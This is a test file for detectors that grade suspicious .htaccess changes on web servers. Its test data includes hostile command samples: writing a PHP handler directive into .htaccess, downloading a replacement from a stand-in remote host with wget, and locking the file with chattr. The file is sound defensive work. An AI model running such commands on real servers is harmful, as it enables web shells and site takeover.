import { describe, expect, test } from "vitest";
import type { Fact, Process } from "../events/fact.ts";
import type { Context, Detector, Match } from "./detector.ts";
import { htaccessAccessCommand } from "./htaccess-access.command.ts";
import { htaccessAccessFile } from "./htaccess-access.file.ts";

const context = { threats: {}, userName: (uid: number) => (uid === 33 ? "www-data" : undefined) } as unknown as Context;

/** Feeds facts to one started detector and gathers what it says. */
function run(detector: Detector, facts: readonly Fact[], settings: object = {}): Match[] {
  const judge = detector.start(detector.settings.parse(settings), context);
  return facts.flatMap((fact) => [judge.judge(fact) ?? []].flat());
}
const process = (argv: readonly string[], more: Partial<Process> = {}): Process => ({
  pid: 70,
  ppid: 60,
  exe: `/usr/bin/${argv[0]?.split("/").at(-1)}`,
  argv,
  cwd: "/root",
  uid: 0,
  ...more,
});
const ran = (argv: readonly string[], more: Partial<Process> = {}, at = 1000): Fact => ({
  kind: "process.started",
  at,
  process: process(argv, more),
});
const script = (text: string, more: Partial<Process> = {}, at = 1000) => ran(["sh", "-c", text], more, at);
const below = (exe: string, argv: readonly string[] = [exe]) => ({ ancestors: [{ pid: 60, exe, argv, uid: 0 }] });
const site = { cwd: "/var/www/html" };

describe(".htaccess by a command", () => {
  test.each([
    ["echo 'SetHandler application/x-httpd-php' > .htaccess", "high"],
    ["touch img/.htaccess", "medium"],
    ["mv h.txt .htaccess", "medium"],
    ["sed -i s/Deny/Allow/ /var/www/html/.htaccess", "medium"],
    ["wget -O .htaccess http://192.0.2.7/h", "medium"],
    ["chattr +i .htaccess", "medium"],
    ["rm .htaccess", "low"],
    ["chmod 644 .htaccess", "low"],
  ])("%s is graded %s", (line, confidence) => {
    expect(run(htaccessAccessCommand, [script(line, site)])).toMatchObject([{ confidence }]);
  });

  test.each(["cat .htaccess", "find . -name .htaccess", "grep Rewrite .htaccess > out", "touch .htaccess.md"])(
    "%s raises nothing",
    (line) => {
      expect(run(htaccessAccessCommand, [script(line, site)])).toEqual([]);
    },
  );

  test("a deployment and an allowed directory are quiet", () => {
    const touch = ran(["touch", ".htaccess"], { ...site, ...below("/usr/bin/git") });
    expect(run(htaccessAccessCommand, [touch])).toEqual([]);
    expect(
      run(htaccessAccessCommand, [ran(["touch", ".htaccess"], site)], { allowedDirectories: ["/var/www/"] }),
    ).toEqual([]);
  });
});

describe(".htaccess as a file", () => {
  const wrote = (operation: "create" | "delete", exe: string): Fact => ({
    kind: "file.changed",
    at: 1,
    operation,
    file: { path: "/var/www/html/.htaccess" },
    process: process(["x"], { exe }),
  });

  test("written by a shell fires, by the web server itself is low, by rsync is quiet", () => {
    expect(run(htaccessAccessFile, [wrote("create", "/usr/bin/bash")])).toMatchObject([{ confidence: "medium" }]);
    expect(run(htaccessAccessFile, [wrote("create", "/usr/sbin/apache2")])).toMatchObject([{ confidence: "low" }]);
    expect(run(htaccessAccessFile, [wrote("create", "/usr/bin/rsync")])).toEqual([]);
    expect(run(htaccessAccessFile, [wrote("delete", "/usr/bin/bash")])).toEqual([]);
  });
});
